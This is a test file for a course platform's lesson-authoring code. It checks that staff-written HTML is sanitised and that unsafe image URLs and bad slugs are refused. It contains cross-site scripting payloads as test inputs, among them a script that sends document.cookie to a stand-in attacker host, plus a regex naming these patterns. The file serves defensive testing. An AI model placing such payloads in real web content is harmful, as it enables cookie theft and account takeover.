import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { saveCourse, saveLesson } from '../../src/modules/courses/authoring.ts';
import { createMember } from '../support/members.ts';
import { createTestApp, type TestApp } from '../support/test-app.ts';

let t: TestApp;
let token: string;
const now = new Date('2025-03-03T15:00:00Z');

beforeAll(async () => {
  t = await createTestApp();
  const member = await createMember(t.ctx);
  token = await t.login(member.email, member.password);
});
afterAll(() => t.close());

describe('lesson content written by staff', () => {
  it('is neutralised on write: scripts, foreign frames and event handlers never reach members', async () => {
    const courseId = await saveCourse(t.ctx.db, { slug: 'safety', title: 'Safety <b>first</b>', status: 'published' }, now);
    await saveLesson(
      t.ctx.db,
      courseId,
      {
        slug: 'lesson',
        title: '<img src=x onerror="alert(1)">Reading the tape',
        overview: '<script>steal()</script>Watch how price reacts.',
        contentHtml: [
          '<p onclick="steal()">Intro</p>',
          '<script>fetch("https://evil.example/"+document.cookie)</script>',
          '<iframe src="https://evil.example/phish"></iframe>',
          '<iframe src="https://www.youtube-nocookie.com/embed/abc123" title="Walkthrough" onload="steal()"></iframe>',
          '<img src="https://cdn.example.com/chart.png" onerror="steal()" alt="Chart">',
          '<a href="javascript:steal()">link</a>',
        ].join(''),
        sections: [{ heading: 'Checks<script>x()</script>', checklist: ['<b onmouseover="x()">Mark the range</b>'] }],
      },
      now,
    );

    const res = await t.call('GET', '/api/courses/safety', { token });
    expect(res.statusCode).toBe(200);
    const course = res.json().data;
    const lesson = course.modules[0];
    const html: string = lesson.content_html;
    expect(html).not.toMatch(/<script|onerror|onclick|onload|javascript:|evil\.example/i);
    expect(html).toContain('<p>Intro</p>');
    expect(html).toContain('<iframe src="https://www.youtube-nocookie.com/embed/abc123" title="Walkthrough"></iframe>');
    expect(html).toContain('<img src="https://cdn.example.com/chart.png" alt="Chart" />');
    expect(course.title).toBe('Safety first');
    expect(lesson.title).toBe('Reading the tape');
    expect(lesson.overview).toBe('Watch how price reacts.');
    expect(lesson.sections[0]).toMatchObject({ heading: 'Checks', checklist: ['Mark the range'] });
  });

  it('refuses unsafe image addresses and bad slugs with a clear message, writing nothing', async () => {
    await expect(
      saveCourse(t.ctx.db, { slug: 'img', title: 'Images', heroImage: 'javascript:alert(1)' }, now),
    ).rejects.toMatchObject({ code: 'validation', fields: { hero_image: [expect.stringMatching(/https address/)] } });
    await expect(saveCourse(t.ctx.db, { slug: 'Bad Slug!', title: 'Slugs' }, now)).rejects.toMatchObject({
      code: 'validation',
      fields: { slug: ['Use lowercase letters, numbers and single dashes for the slug.'] },
    });
    const rows = await t.ctx.database.query(`select 1 from courses where slug in ('img', 'bad-slug')`);
    expect(rows).toHaveLength(0);
  });
});
